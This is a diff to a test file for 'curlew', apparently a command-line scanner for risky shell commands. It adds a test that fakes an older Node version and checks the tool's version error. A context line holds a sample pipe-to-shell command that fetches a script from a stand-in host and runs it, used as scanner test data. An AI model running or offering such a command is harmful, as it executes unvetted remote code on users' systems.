@@ -6,6 +6,20 @@ import { bash, curlew } from "./process.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
+it("says which Node it needs, where the one that runs it is older", async () => {
+  const preload = 'Object.defineProperty(process.versions, "node", { value: "18.20.4" })';
+  const { status, stdout, stderr } = await curlew(["scan", "-"], {
+    stdin: "x",
+    env: { NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(preload)}` },
+  });
+  const { engines } = JSON.parse(readFileSync("package.json", "utf8")) as {
+    engines: { node: string };
+  };
+  expect([status, stdout]).toEqual([2, ""]);
+  expect(stderr).toMatch(/^curlew: needs Node ([\d.]+) or newer, and this is 18\.20\.4;[^\n]*\n$/);
+  expect(engines.node).toBe(`>=${/Node ([\d.]+)/.exec(stderr)?.[1]}`);
+});
+
 describe("scan", () => {
   it("reads standard input", async () => {
     const { status, stdout, stderr } = await curlew(["scan", "-"], {
